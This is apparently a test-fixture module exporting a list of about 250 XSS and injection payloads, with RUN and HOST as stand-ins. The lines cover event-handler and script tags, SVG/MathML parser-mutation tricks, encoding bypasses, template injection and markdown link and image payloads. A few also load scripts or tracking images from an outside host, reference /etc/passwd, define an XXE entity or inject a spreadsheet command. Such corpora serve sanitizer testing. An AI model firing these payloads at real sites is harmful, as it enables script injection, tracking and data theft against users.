/** Tags, templates and links that scripts hide in, a line each; RUN is the script, HOST a host elsewhere. */
export const tags = `
<script>RUN</script>
<SCRIPT SRC=https://HOST/x.js></SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script/src=data:,RUN></script>
<script>\\u0063anary(1)</script>
<script type=module>RUN</script>
<script>/*<!--*/RUN/*-->*/</script>
<<SCRIPT>RUN//<</SCRIPT>
<script x> RUN </script 1=2
<script src=//HOST/x.js>
<img src=x onerror=RUN>
<img src=x:x onerror\u000b=RUN>
<img src=1 oNeRrOr=RUN//
<IMG """><SCRIPT>RUN</SCRIPT>">
<img src="x\`\`onerror=RUN">
<img/src/onerror=RUN>
<img src=https://HOST/p.png>
<img srcset="https://HOST/p.png 1x">
<img dynsrc="javascript:RUN">
<img lowsrc="javascript:RUN">
<image src=x onerror=RUN>
<body onload=RUN>
<body background="javascript:RUN">
<BODY ONLOAD=RUN>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<keygen autofocus onfocus=RUN>
<details open ontoggle=RUN>
<video src=x onerror=RUN>
<video><source onerror=RUN>
<video poster=javascript:RUN></video>
<audio src=x onerror=RUN>
<audio autoplay src=https://HOST/a.ogg>
<marquee onstart=RUN>
<iframe src=javascript:RUN>
<iframe srcdoc="<script>RUN</script>">
<iframe src="data:text/html,<script>RUN</script>">
<frameset onload=RUN>
<object data=javascript:RUN>
<object data="data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=">
<embed src=javascript:RUN>
<embed src="https://HOST/x.swf">
<applet code=x archive=https://HOST/x.jar>
<link rel=stylesheet href=https://HOST/x.css>
<link rel=import href=https://HOST/x.html>
<link rel=prefetch href=https://HOST/x>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=https://HOST/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<base href=https://HOST/>
<base href=javascript:/a/+RUN//>
<form action=javascript:RUN><input type=submit></form>
<form><button formaction=javascript:RUN>X
<isindex action=javascript:RUN type=submit>
<a href=javascript:RUN>press</a>
<a href="&#106;avascript:RUN">press</a>
<a href="java\tscript:RUN">press</a>
<a onmouseover=RUN>press</a>
<a ping=https://HOST/ href=#>press</a>
<div style="background:url(javascript:RUN)">
<div style="background-image:url(https://HOST/b.png)">
<div style="width:expression(RUN)">
<div style="-moz-binding:url(https://HOST/x.xml#x)">
<div style="behavior:url(https://HOST/x.htc)">
<style>@import 'https://HOST/x.css';</style>
<style>body{background:url(https://HOST/b.png)}</style>
<style>*{x:expression(RUN)}</style>
<style><img src="</style><img src=x onerror=RUN//">
<style onload=RUN></style>
<table background=javascript:RUN>
<td background="https://HOST/t.png">
<template><script>RUN</script></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<portal src=https://HOST/ onload=RUN>
<x onclick=RUN>press
<x contenteditable onblur=RUN>press
<x id=x tabindex=0 onfocus=RUN autofocus>
<div onpointerover=RUN>here
<button popovertarget=x>press</button><x popover id=x onbeforetoggle=RUN>
<custom-element onanimationend=RUN style="animation:x 1s">
<bgsound src=javascript:RUN>
<layer src=https://HOST/x.html>
<xss style="transition:color 1s" ontransitionend=RUN>
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href=https://HOST/x.js></svg>
<svg><script xlink:href=data:,RUN></svg>
<svg><a xlink:href=javascript:RUN><text y=20>press</text></a></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>press</text></a></svg>
<svg><a><set attributeName=href to=javascript:RUN /><text y=20>press</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x>
<svg><animatetransform onbegin=RUN>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><use xlink:href=https://HOST/x.svg#x /></svg>
<svg><image href=https://HOST/x.png /></svg>
<svg><image href=x onerror=RUN /></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>
<svg><style>@import 'https://HOST/x.css';</style></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><feImage href=https://HOST/x.png /></svg>
<svg><discard onbegin=RUN>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<svg xmlns="#"><script>RUN</script></svg>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">RUN</svg:script>
<math><mtext></p><style><img src=x onerror=RUN></style></mtext></math>
<math href=javascript:RUN>press</math>
<math><maction actiontype=statusline xlink:href=javascript:RUN>press</maction></math>
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg></br><style><a title="</style><img src=x onerror=RUN>">
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>">
<noframes><img title="</noframes><img src=x onerror=RUN>">
<xmp><img title="</xmp><img src=x onerror=RUN>">
<title><img title="</title><img src=x onerror=RUN>">
<textarea><img title="</textarea><img src=x onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<plaintext><img src=x onerror=RUN>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=RUN>">
<option><style></option></select><img src=x onerror=RUN></style></option>
<table><td><svg></table><img src=x onerror=RUN>
<p><svg><desc><style></p><img src=x onerror=RUN>
<a><svg><p></a><style><img src=x onerror=RUN></style>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<!--<img src="--><img src=x onerror=RUN//">
<!DOCTYPE x [<!ENTITY y SYSTEM "https://HOST/x">]><x>&y;</x>
<?xml-stylesheet href="javascript:RUN"?>
<?php echo '<script>RUN</script>' ?>
<![CDATA[<script>RUN</script>]]>
<% RUN %>
<%= RUN %>
"><script>RUN</script>
'><script>RUN</script>
</script><script>RUN</script>
</style><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</noscript><img src=x onerror=RUN>
--><script>RUN</script>
]]><script>RUN</script>
" onfocus=RUN autofocus x="
' onfocus=RUN autofocus x='
\` onfocus=RUN autofocus x=\`
" onmouseover="RUN
" style="background:url(https://HOST/b.png)
"/><svg onload=RUN>
'-RUN-'
"-RUN-"
\\"-RUN//
\${RUN}
\`\${RUN}\`
{{RUN}}
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
#{RUN}
*{RUN}
[[RUN]]
[(RUN)]
@(RUN)
{%raw%}{{RUN}}{%endraw%}
$(RUN)
;RUN;
//RUN
*/RUN/*
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3C;img src=x onerror=RUN&#x3E;
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u2039script\u203aRUN\u2039/script\u203a
<\u200bscript>RUN</script>
<scr\u0000ipt>RUN</scr\u0000ipt>
<script\u00a0>RUN</script>
<\ufeffscript>RUN</script>
<ſcript>RUN</ſcript>
<İmg src=x onerror=RUN>
\u202e>tpircs/<(1)yranac>tpircs<
<img src=x o\u006eerror=RUN>
\u2028<script>RUN</script>
\ud83d<script>RUN</script>
__proto__
constructor
[press](javascript:RUN "title")
[press]( javascript:RUN)
[press](java
script:RUN)
[press](//HOST/)
[press](http://HOST/)
[press](https://user:word@HOST/)
[press](https://HOST@example.org/)
[press](https:/\\HOST/)
[press](https://HOST/"onmouseover="RUN)
[press](https://HOST/'onmouseover='RUN)
[press](https://HOST/\`<script>RUN</script>)
[press](/\\HOST/)
[press](\\\\HOST\\x)
[press](/catalogue//HOST/)
[press](/catalogue/../../x)
[press](file:///etc/passwd)
[press](#"onclick="RUN)
![seen](https://HOST/spy.png)
![seen"onerror="RUN](x)
![seen](x"onerror="RUN)
[![seen](https://HOST/spy.png)](javascript:RUN)
<https://HOST/"onclick="RUN>
<javascript:RUN>
\`<script>RUN</script>\`
    <script>RUN</script>
~~~html" onclick="RUN
# <img src=x onerror=RUN>
> <script>RUN</script>
- <svg onload=RUN>
| <img src=x onerror=RUN> |
**<b onclick=RUN>b</b>**
[^x]: <script>RUN</script>
$\\href{javascript:RUN}{x}$
$$\\unicode{<img src=x onerror=RUN>}$$
\\[\\url{javascript:RUN}\\]
=cmd|'/C calc'!A0
`
